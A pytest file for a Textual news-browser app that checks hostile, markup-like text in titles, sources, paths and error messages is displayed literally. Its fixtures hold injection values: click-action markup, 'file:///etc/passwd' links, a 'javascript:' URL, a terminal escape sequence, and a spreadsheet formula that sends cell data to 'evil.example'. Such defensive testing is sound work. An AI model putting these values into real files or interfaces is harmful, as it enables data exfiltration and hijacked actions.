"""Markup never comes from data: article titles, sources, text, entity names, URLs, queries, paths and error
messages shown by the browser, in every pane, palette, dialog and notification, are shown as written.

Textual reads a ``str`` as markup in many places (a palette hit's help, a notification, a border title):
``[/FOTO]`` raised MarkupError and ended the app, ``[FOTO]`` vanished, ``[@click=app.quit]`` became a live
action. The index here is full of markup-like strings; the test drives every screen and looks at what is
on it.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from rich.segment import Segment
from textual.command import CommandPalette
from textual.pilot import Pilot
from tui_support import build_index, settle

from tui.app import WartaApp
from tui.library import EntityName, EntityTimeline, Library, Row
from tui.screens.export import ExportScreen
from tui.screens.help import HelpScreen
from tui.screens.main import MainScreen
from tui.text import printable
from tui.widgets.article import ArticleView
from tui.widgets.events import EventList, EventsPane
from tui.widgets.filters import FilterChip
from tui.widgets.status import StatusLine

pytestmark = pytest.mark.asyncio

SIZE = (200, 50)
MARKUP = "[b] [/] [@click=app.quit]klik[/] [link=file:///etc/passwd]x[/link] [FOTO] [B]y[/B] $accent \\"
"""Markup-like text of every kind: closing tags with nothing open, actions, links, upper-case tags
(which ``textual.markup.escape`` leaves alone), a variable, a trailing backslash."""
TITLES = {
    "h1": "[/FOTO] Banjir melanda [b]kota[/b] Jakarta",
    "h2": "[FOTO] Banjir di [link=file:///etc/passwd]pantai[/link] $accent [B]x[/B] \\",
    "h3": "Banjir [@click=app.quit]besar[/] [/b]",
    "h4": '=HYPERLINK("http://evil.example/?d="&A1,"Banjir")',
}
SOURCES = {
    "h1": "[FOTO] [/b][@click=app.quit]Kompas[/]",
    "h2": "[B]Detik[/B] [/]",
    "h3": "[link=file:///etc/passwd]Tempo[/link]",
    "h4": "@SUM(A1:A9)",
}
BODIES = {
    "h1": "Presiden Joko Widodo meninjau banjir di Jakarta pada Rabu (3/1/2024). {markup}\n\n"
    "Gubernur Heru Budi Hartono mengatakan banjir [FOTO] surut. Menteri Basuki Hadimuljono meresmikan bendungan.",
    "h2": "Presiden Joko Widodo kembali meninjau banjir di Jakarta. {markup} Heru Budi Hartono mendampingi.",
    "h3": "Banjir besar melanda Jakarta. Presiden Joko Widodo menyalurkan bantuan. {markup}",
    "h4": "Banjir rob di pesisir utara. {markup}",
}
NAME = "[FOTO] Joko [/b][@click=app.quit]Wi[/] [B]"
"""An entity name as hostile as the titles (the recogniser finds none such: the engine's answer is faked)."""
ERROR = "[/FOTO] index [@click=app.quit]gone[/] [B] \x1b[2J"
"""An error message (it may quote a path or a query) with markup and an escape sequence."""


def write_hostile(path: Path) -> Path:
    with path.open("w", encoding="utf-8") as file:
        for number, doc_id in enumerate(TITLES):
            record = {
                "id": doc_id,
                "title": TITLES[doc_id],
                "source": SOURCES[doc_id],
                "date": f"2024-01-0{number + 3}",
                "body": BODIES[doc_id].format(markup=MARKUP),
                "url": "javascript:[@click=app.quit]x[/]",
            }
            file.write(json.dumps(record) + "\n")
    return path


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("tui-hostile")
    return build_index(folder / "index", write_hostile(folder / "hostile.jsonl"))


def screen_lines(app: WartaApp) -> list[str]:
    """The lines on the terminal now (the screen on top, with what shows of those below it)."""
    update = app.screen._compositor.render_full_update()
    return ["".join(strip.text for strip in line) for line in update.strips]


def screen_text(app: WartaApp) -> str:
    return "\n".join(screen_lines(app))


def actions_on_screen(app: WartaApp) -> list[str]:
    """The click actions of the cells on screen: Textual's own widgets' only, never one from the data."""
    update = app.screen._compositor.render_full_update()
    found = []
    for line in update.strips:
        for strip in line:
            for segment in strip:
                style = Segment(*segment).style
                if style is not None and style.meta.get("@click"):
                    found.append(str(style.meta["@click"]))
    return found


def status(app: WartaApp) -> str:
    return str(app.screen.query_one(StatusLine).render())


async def palette(pilot: Pilot[None], command: str, typed: str) -> CommandPalette:
    await pilot.press("ctrl+p", *command)
    await pilot.pause(0.3)
    await pilot.press("enter")
    await pilot.pause(0.3)
    await pilot.press(*typed)
    await pilot.pause(0.5)
    await settle(pilot)
    assert isinstance(pilot.app.screen, CommandPalette)
    return pilot.app.screen


def prompts(screen: CommandPalette) -> list[str]:
    option_list = screen.query_one("CommandList")
    return [str(option.prompt) for option in option_list.options]  # type: ignore[attr-defined]


async def test_every_screen_shows_markup_like_data_as_written(
    hostile_index: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_page = Library.page

    def page(self: Library, query: str, *args: Any, **kwargs: Any) -> Any:
        if query == "rusak":
            raise OSError(ERROR)
        return real_page(self, query, *args, **kwargs)

    monkeypatch.setattr(Library, "page", page)
    monkeypatch.setattr(Library, "entity_names", lambda self: [EntityName("PERSON", NAME, 3, ("[B]Jokowi[/B]",))])
    timelines = [EntityTimeline(NAME, (), (Row("x", TITLES["h3"], None, None),), True)]
    monkeypatch.setattr(Library, "entity_events", lambda self, name, *args, **kwargs: timelines[-1])
    app = WartaApp(hostile_index)
    async with app.run_test(size=SIZE, notifications=True, tooltips=True) as pilot:
        await settle(pilot)
        # the list, every article (the title column is cut to its width)
        rows = [line for line in screen_lines(app) if "Banjir" in line]
        for title in TITLES.values():
            assert any(title[:24] in row for row in rows), title
        # the article: title, source, text (the one whose event's summary quotes "[FOTO]")
        await pilot.press(*"surut", "enter", "enter")
        await settle(pilot)
        article = app.screen.query_one(ArticleView)
        assert article.article is not None
        key = next(key for key, title in TITLES.items() if title == article.article.document.title)
        laid_out = " ".join(" ".join(article.lines).split())  # the lines as wrapped, joined again
        assert TITLES[key] in laid_out
        assert SOURCES[key] in laid_out
        assert MARKUP in laid_out
        # the sidebar: event summaries and the titles of the articles reporting them
        listed = [str(option.prompt) for option in app.screen.query_one(EventList).options]
        assert any("[FOTO]" in prompt for prompt in listed), listed
        assert app.is_running

        # "Open document by title…": each title, its date and source
        shown = prompts(await palette(pilot, "open document by title", "banjir"))
        assert sorted(prompt.split("\n")[0] for prompt in shown) == sorted(TITLES.values())
        for key, title in TITLES.items():
            [prompt] = [prompt for prompt in shown if prompt.startswith(title + "\n")]
            assert prompt.split("\n")[1].endswith(SOURCES[key]), prompt
        assert actions_on_screen(app) == []
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, MainScreen) and app.is_running

        # "Filter by entity…": the name, its alias, the filter chip
        shown = prompts(await palette(pilot, "filter by entity", "joko"))
        assert shown[0].split("\n")[0] == f"With person {NAME}"
        assert shown[0].split("\n")[1] == f'person:"{NAME}" · 3 articles'
        assert actions_on_screen(app) == []
        await pilot.press("enter")
        await settle(pilot)
        [chip] = app.screen.query(FilterChip)
        assert str(chip.render()) == f"person: {NAME} ×"
        assert f"person: {NAME} ×" in screen_text(app)
        await pilot.press("c")
        await settle(pilot)

        # an entity's timeline in the sidebar (the engine's answer names the hostile entity)
        await pilot.press("slash", "ctrl+a", "ctrl+k", *"presiden", "enter", "enter")
        await settle(pilot)
        await pilot.press("e", "t")
        await settle(pilot)
        pane = app.screen.query_one(EventsPane)
        border = next(line for line in screen_lines(app) if "Articles naming" in line)  # the getter gives markup
        assert f"Articles naming {NAME}"[:22] in border, border  # the sidebar is narrow: cut after [FOTO]
        assert TITLES["h3"] in [str(option.prompt).split("\n")[-1] for option in pane.query_one(EventList).options]
        # one that names nothing, with an escape sequence in its name
        timelines.append(EntityTimeline(NAME + " \x1b[2J", (), (), True))
        await pilot.press("t")
        await settle(pilot)
        assert status(app).endswith(f"Nothing names {NAME} ␛[2J.")
        said = str(pane.query_one("#events-empty").render())
        assert said == f"No event or article names {NAME} ␛[2J."
        assert "\x1b" not in screen_text(app)

        # an error message in the status line and in a notification
        await pilot.press("slash", "ctrl+a", "ctrl+k", *"rusak")
        await settle(pilot)
        assert app.is_running
        assert status(app).endswith(f"search failed: OSError: {printable(ERROR)}")
        toasts = [str(toast.render()) for toast in app.screen.query("Toast")]
        assert any(printable(ERROR) in toast for toast in toasts), toasts
        assert "\x1b" not in screen_text(app)

        # o on a url that is no web address: the value quoted as it is
        await pilot.press("ctrl+a", "ctrl+k", *"banjir", "enter", "enter")
        await settle(pilot)
        await pilot.press("o")
        assert status(app).endswith("not a web address: javascript:[@click=app.quit]x[/]")

        # the export dialog: the query, a bad path, then the status line of an export to a folder named in markup
        await pilot.press("slash", "ctrl+a", "ctrl+k", *"banjir [B]", "enter")
        await settle(pilot)
        await pilot.press("x")
        await pilot.pause()
        assert isinstance(app.screen, ExportScreen)
        assert "hits of 'banjir [B]'" in screen_text(app)
        await pilot.press(*str(tmp_path / "[/b][FOTO].txt"), "enter")
        await pilot.pause()
        said = str(app.screen.query_one("#export-message").render())  # wrapped in the dialog
        assert said == f"{tmp_path / '[/b][FOTO].txt'}: the name must end in .csv or .json"
        folder = tmp_path / "[b]hasil [FOTO] [@click=app.quit]"
        folder.mkdir()
        await pilot.press("ctrl+a", "ctrl+k", *str(folder / "[FOTO].csv"), "enter")
        await settle(pilot)
        assert isinstance(app.screen, MainScreen)
        assert status(app).endswith(f" hits to {folder / '[FOTO].csv'}")
        with (folder / "[FOTO].csv").open(encoding="utf-8", newline="") as file:
            exported = {row["title"]: row["source"] for row in csv.DictReader(file)}
        assert exported["'" + TITLES["h4"]] == "'" + SOURCES["h4"]  # a spreadsheet shows them, runs nothing
        assert exported[TITLES["h1"]] == SOURCES["h1"]

        # the help screen
        await pilot.press("question_mark")
        await pilot.pause()
        assert isinstance(app.screen, HelpScreen)
        assert "Go to results" in screen_text(app)
        await pilot.press("escape")
        assert app.is_running and app.return_code is None


async def test_the_welcome_screen_shows_an_index_path_in_markup_as_written(tmp_path: Path) -> None:
    index_dir = tmp_path / "[b]idx[/b] [FOTO]"
    app = WartaApp(index_dir)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot)
        assert f"Index: {index_dir}" in str(app.screen.query_one("#welcome-intro").render())
        await pilot.press("tab", *str(tmp_path / "[/b]none"), "enter")
        await pilot.pause()
        said = str(app.screen.query_one("#welcome-message").render())
        assert said == f"There is no file or folder at {tmp_path / '[/b]none'}."
        assert app.is_running
